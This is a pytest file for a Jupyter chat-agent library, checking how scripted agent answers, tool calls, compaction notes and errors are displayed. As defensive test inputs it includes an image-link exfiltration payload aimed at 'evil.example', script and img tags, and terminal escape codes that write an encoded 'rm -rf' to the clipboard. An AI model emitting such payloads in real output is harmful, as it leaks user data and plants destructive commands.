"""What `agent.chat` shows: in a real notebook's cells, and outside of one."""

import subprocess
import sys

import nbformat
import pytest
from kernels import without_ports
from nbclient import NotebookClient
from nbformat.v4 import new_code_cell, new_notebook

from nbchat.agent.agent import Agent
from nbchat.compaction.engine import CompactionEngine
from nbchat.conversation.entries import Entry
from nbchat.conversation.events import ContentLeftOut, TextDelta
from nbchat.errors import Overloaded, RequestRefused
from nbchat.testing import Replay, ScriptedProvider, calls, fails, says

BEGIN = """
from nbchat import Agent, CompactionEngine
from nbchat.testing import ScriptedProvider, calls, fails, says
from nbchat.errors import RateLimited
LONG = "The parcel of **W100** left the depot on Monday. " * 30
def lookup(order: str) -> str:
    "Find an order."
    return f"{order} was shipped"
def agent_with(*lines, **options):
    return Agent(ScriptedProvider(*lines), **options)
"""
COMPACTED = """
agent_with(
    says(LONG, tokens=101), says("<summary>short</summary>"),
    engine=CompactionEngine(100),
).chat("hi")
"""
SHORTENED = """
import json
def rows(table: str) -> str:
    "Read a table."
    return json.dumps([{"number": n, "text": LONG} for n in range(200)])
agent_with(
    calls("rows", table="t"), says("Read."), tools=[rows],
    engine=CompactionEngine(policy="early"),
).chat("hi")
"""
MANY = """
from nbchat import map_agents
run = map_agents(lambda: agent_with(says("Hello.", delay_seconds=0.2)), ["a", "b"])
run
"""
AWAITED = """
async def category(ticket: str) -> str:
    "Look a ticket up."
    import asyncio
    await asyncio.sleep(0)
    return f"{ticket} is about a card"
agent = agent_with(calls("category", ticket="T1"), says("Card."), says("Bye."), tools=[category])
answer = await agent.aask("T1")
kinds = [type(event).__name__ async for event in agent.run("Thanks")]
print(answer, agent.session.transcript[2].content, kinds[-1], sep="; ")
"""
BREAKING = """
from nbchat.errors import ConnectionFailed
from nbchat.conversation.events import TextDelta
class Breaking(ScriptedProvider):
    breaks = 1
    def stream(self, request, *, stop=None):
        if self.breaks:
            self.breaks = 0
            yield TextDelta("The par")
            raise ConnectionFailed("lost")
        return (yield from super().stream(request, stop=stop))
"""
LOADED = "%load_ext nbchat\nagent = %chat agent\nagent.use(Breaking(says('fine')))"
HOSTILE = (
    "'![x](https://evil.example/?secret) <img src=//evil.example> <script>1</script>'"
)
CONTROL = r"'Hi \x1b]52;c;cm0gLXJm\x07 there \x9b2J'"
CELLS = {
    "begin": BEGIN,
    "hostile": f'agent_with(says({HOSTILE})).chat("hi")',
    "hostile asked": f'agent_with(says({HOSTILE})).ask("hi")',
    "control": f'agent_with(says({CONTROL})).chat("hi")',
    "control asked": f'agent_with(says({CONTROL})).ask("hi")',
    "last line": 'agent = agent_with(says("Hello **you**."))\nagent.chat("hi")',
    "assigned": 'answer = agent_with(says("Hello **you**.")).chat("hi")',
    "shown again": "answer",
    "asked": 'agent_with(says("Hello **you**.")).ask("hi")',
    "awaited chat": 'await agent_with(says("Hello **you**.")).achat("hi")',
    "awaited": AWAITED,
    "asked silently": '_ = agent_with(says("Hello **you**.")).ask("hi")',
    "slow": 'agent_with(says("one two three", delay_seconds=0.3)).chat("hi")',
    "tool": 'agent_with(calls("lookup", order="W1"), says("Shipped."), tools=[lookup]).chat("hi")',
    "cut": 'agent_with(says("Half", stop_reason="max_tokens")).chat("hi")',
    "compacted": COMPACTED,
    "shortened": SHORTENED,
    "failed": 'agent_with(fails(RateLimited("wait", retry_after=7200.0))).chat("hi")',
    "not run": 'agent.run("hi")',
    "many": MANY,
    "broken": f"{BREAKING}Agent(Breaking(says('fine'))).chat('hi')",
    "loaded": LOADED,
    "broken magic": "%%chat\nhello",
}


@pytest.fixture(scope="module")
def shown() -> dict[str, list[nbformat.NotebookNode]]:
    """The outputs of each cell, as a saved notebook holds them."""
    notebook = new_notebook(cells=[new_code_cell(code) for code in CELLS.values()])
    NotebookClient(
        notebook, kernel_name="python3", allow_errors=True, config=without_ports()
    ).execute()
    return {
        name: cell.outputs for name, cell in zip(CELLS, notebook.cells, strict=True)
    }


def markdown(outputs: list[nbformat.NotebookNode]) -> list[str]:
    return [each.data["text/markdown"] for each in outputs if "data" in each]


@pytest.mark.kernel
@pytest.mark.parametrize(
    "cell", ["last line", "assigned", "shown again", "asked", "awaited chat"]
)
def test_an_answer_appears_once_as_markdown(shown, cell: str):
    assert markdown(shown[cell]) == ["Hello **you**."]


@pytest.mark.kernel
def test_an_answer_is_shown_as_html_whose_images_are_links(shown):
    (streamed,) = shown["hostile"]
    (asked,) = shown["hostile asked"]
    for output in (streamed, asked):
        assert "<img" not in output.data["text/html"]
        assert "<script" not in output.data["text/html"]
        assert "https://evil.example/?secret" in output.data["text/html"]


@pytest.mark.kernel
def test_what_a_console_prints_of_an_answer_has_no_control_characters(shown):
    for name in ("control", "control asked"):
        (output,) = shown[name]
        assert "Hi" in output.data["text/plain"]
        assert not {"\x1b", "\x07", "\x9b"} & {*output.data["text/plain"]}


@pytest.mark.kernel
def test_a_silent_answer_shows_nothing(shown):
    assert shown["asked silently"] == []


@pytest.mark.kernel
def test_a_cell_awaits_answers_async_tools_and_events(shown):
    (printed,) = shown["awaited"]
    assert printed.text == "Card.; T1 is about a card; TurnFinished\n"


@pytest.mark.kernel
def test_a_slow_answer_grows_in_one_display(shown):
    assert markdown(shown["slow"]) == ["one two three"]


@pytest.mark.kernel
def test_an_answer_that_was_cut_says_so_below_it(shown):
    answer, note = shown["cut"]
    assert answer.data["text/markdown"] == "Half"
    assert note.data == {"text/plain": "(The answer was cut off at the output limit.)"}


@pytest.mark.kernel
def test_a_tool_call_is_a_line_of_plain_text(shown):
    call, answer = shown["tool"]
    assert call.data == {"text/plain": '[lookup {"order": "W1"}]'}
    assert answer.data["text/markdown"] == "Shipped."


@pytest.mark.kernel
def test_a_compaction_is_one_line_which_replaces_the_line_of_its_beginning(shown):
    answer, line = shown["compacted"]
    assert "**W100**" in answer.data["text/markdown"]
    assert line.data["text/plain"].startswith("Compacted: ")


@pytest.mark.kernel
def test_an_output_that_is_shortened_does_not_replace_the_line_of_its_call(shown):
    call, shortened, answer = shown["shortened"]
    assert call.data["text/plain"].startswith("[rows ")
    assert shortened.data["text/plain"].startswith("Tool outputs shortened: ")
    assert answer.data["text/markdown"] == "Read."


@pytest.mark.kernel
def test_a_run_in_a_cell_that_is_not_watched_is_shown_once(shown):
    (output,) = shown["many"]
    assert output.output_type == "execute_result"
    assert "of 2 rows" in output.data["text/html"]


@pytest.mark.kernel
def test_a_failed_turn_raises_the_real_error(shown):
    assert [each.ename for each in shown["failed"]] == ["RateLimited"]


@pytest.mark.kernel
def test_a_turn_that_was_not_run_says_so(shown):
    (turn,) = shown["not run"]
    assert "not started" in turn.data["text/plain"]
    assert "agent.chat(...)" in turn.data["text/html"]


def lookup(order: str) -> str:
    """Find an order."""
    return f"{order} was shipped"


def test_outside_of_a_notebook_a_turn_is_printed(capsys):
    provider = ScriptedProvider(
        fails(Overloaded("busy", retry_after=0.0)),
        calls("lookup", order="W1"),
        says("It was shipped. " * 20, tokens=101),
        says("<summary>short</summary>"),
    )
    engine = CompactionEngine(100)
    answer = Agent(provider, tools=[lookup], engine=engine).chat("Where is W1?")
    assert capsys.readouterr().out.splitlines()[:4] == [
        "busy Retrying in 0 s.",
        '[lookup {"order": "W1"}]',
        answer.rstrip("\n"),
        "Compacting 111 tokens …",
    ]


def test_an_interrupt_passes_through_and_keeps_what_had_arrived(capsys):
    class Interrupted(ScriptedProvider):
        def stream(self, request, *, stop=None):
            yield TextDelta("Half an")
            raise KeyboardInterrupt

    agent = Agent(Interrupted())
    with pytest.raises(KeyboardInterrupt):
        agent.chat("hi")
    assert capsys.readouterr().out == "Half an\n"
    assert agent.session.transcript[-1].content == "Half an"
    assert agent.session.transcript[-1].is_incomplete
    assert not agent.is_answering


def test_a_failed_turn_ends_the_line_and_frees_the_chat(capsys):
    class Broken(ScriptedProvider):
        def stream(self, request, *, stop=None):
            yield TextDelta("Half an")
            raise RequestRefused("no such model")

    agent = Agent(Broken())
    with pytest.raises(RequestRefused):
        agent.chat("hi")
    assert capsys.readouterr().out == "Half an\n"
    assert not agent.is_answering


def test_a_reply_without_deltas_is_shown_too(capsys):
    replay = Replay([Entry("user", "hi"), Entry("assistant", "Hello.")])
    assert Agent(replay).chat("hi") == "Hello."
    assert capsys.readouterr().out == "Hello.\n"


@pytest.mark.slow
def test_a_console_needs_no_ipython_and_prints_a_question_mark_for_what_it_cannot_show():
    program = (
        "import sys\n"
        "from nbchat import Agent\n"
        "from nbchat.testing import ScriptedProvider, says\n"
        "for encoding in ('ascii', 'cp1252', 'utf-8'):\n"
        "    sys.stdout.reconfigure(encoding=encoding)\n"
        "    said = says('caf\\u00e9 \\U0001f680 done')\n"
        "    Agent(ScriptedProvider(said)).chat('hi')\n"
        "assert 'IPython' not in sys.modules"
    )
    command = [sys.executable, "-c", program]
    ran = subprocess.run(command, capture_output=True, check=False)
    assert (ran.returncode, ran.stderr) == (0, b"")
    assert ran.stdout.splitlines() == [
        b"caf? ? done",
        b"caf\xe9 ? done",
        "caf\u00e9 \U0001f680 done".encode(),
    ]


def test_a_script_prints_what_a_model_did_not_take(capsys: pytest.CaptureFixture[str]):
    class Blind(ScriptedProvider):
        def stream(self, request, *, stop=None):
            yield ContentLeftOut(("the picture a.png",), "openai:m", "no images")
            return (yield from super().stream(request, stop=stop))

    Agent(Blind(says("fine"))).chat("look")
    line = "m doesn't accept the picture a.png. It was left out"
    assert line in capsys.readouterr().out


@pytest.mark.kernel
def test_where_no_cell_is_watched_a_broken_stream_is_asked_for_again(shown):
    """As under nbconvert and papermill, whose kernels take no input."""
    for cell in ("broken", "broken magic"):
        assert "fine" in str(shown[cell])
        assert "The par" not in str(shown[cell])
